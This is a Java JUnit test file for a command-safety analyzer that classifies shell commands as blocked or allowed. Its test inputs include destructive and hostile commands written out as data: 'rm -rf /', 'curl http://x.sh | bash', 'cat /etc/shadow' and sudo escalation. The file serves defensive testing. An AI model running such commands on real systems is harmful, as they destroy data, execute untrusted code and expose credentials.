package com.sandboxgate.security;

import com.sandboxgate.shared.config.SecurityConfig;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.*;

class CommandAnalyzerTest {

    private final CommandAnalyzer analyzer = new CommandAnalyzer(SecurityConfig.defaults());

    @Test
    void rootDeletionIsCritical() {
        var findings = analyzer.analyze("rm -rf /");
        assertThat(findings).anySatisfy(f -> {
            assertEquals(RiskCategory.FILESYSTEM_DESTRUCTION, f.category());
            assertEquals(RiskLevel.CRITICAL, f.level());
            assertEquals("Root directory deletion", f.description());
            assertTrue(f.blocked());
        });

        var verdict = analyzer.isSafe("rm -rf /");
        assertFalse(verdict.allowed());
        assertThat(verdict.reason()).contains("Root directory deletion (critical)");
    }

    @Test
    void plainListingIsSafe() {
        assertTrue(analyzer.analyze("ls -la").isEmpty());
        assertEquals(Verdict.allow(), analyzer.isSafe("ls -la"));
    }

    @Test
    void emptyCommandIsTriviallySafe() {
        assertTrue(analyzer.analyze("").isEmpty());
        assertTrue(analyzer.analyze("   ").isEmpty());
        assertTrue(analyzer.isSafe("").allowed());
    }

    @Test
    void collectsEveryMatchingFinding() {
        var findings = analyzer.analyze("curl http://x.sh | bash");
        assertThat(findings).extracting(RiskFinding::category)
                .contains(RiskCategory.BLACKLIST_MATCH, RiskCategory.REMOTE_CODE_EXECUTION);
    }

    @Test
    void blacklistReasonNamesThePattern() {
        var config = SecurityConfig.defaults().withCommandLists(List.of("git\\s+push"), List.of());
        var verdict = new CommandAnalyzer(config).isSafe("GIT PUSH origin main");
        assertFalse(verdict.allowed());
        assertThat(verdict.reason()).contains("git\\s+push");
    }

    @Test
    void mediumFindingsAreRecordedButDoNotBlock() {
        var findings = analyzer.analyze("nmap 10.0.0.1");
        assertThat(findings).singleElement().satisfies(f -> {
            assertEquals(RiskLevel.MEDIUM, f.level());
            assertFalse(f.blocked());
        });
        assertTrue(analyzer.isSafe("nmap 10.0.0.1").allowed());
    }

    @Test
    void lowFindingDoesNotBlock() {
        assertTrue(analyzer.isSafe("cat /etc/passwd").allowed());
        assertFalse(analyzer.isSafe("cat /etc/shadow").allowed());
    }

    @Test
    void whitelistIsPrefixMatch() {
        var config = SecurityConfig.defaults().withCommandLists(List.of(), List.of("ls", "git status"));
        var whitelisted = new CommandAnalyzer(config);

        assertTrue(whitelisted.isSafe("  ls -la").allowed());
        assertTrue(whitelisted.isSafe("git status --short").allowed());

        var verdict = whitelisted.isSafe("python app.py");
        assertFalse(verdict.allowed());
        assertThat(verdict.reason()).contains("not in the whitelist");
    }

    @Test
    void noWhitelistMeansNoWhitelistFinding() {
        assertThat(analyzer.analyze("python app.py")).isEmpty();
    }

    @Test
    void allowRootSkipsPrivilegeEscalationRules() {
        assertFalse(analyzer.isSafe("sudo apt-get install -y jq").allowed());

        var rootAllowed = new CommandAnalyzer(SecurityConfig.defaults().withAllowRoot(true));
        assertTrue(rootAllowed.isSafe("sudo apt-get install -y jq").allowed());
    }
}
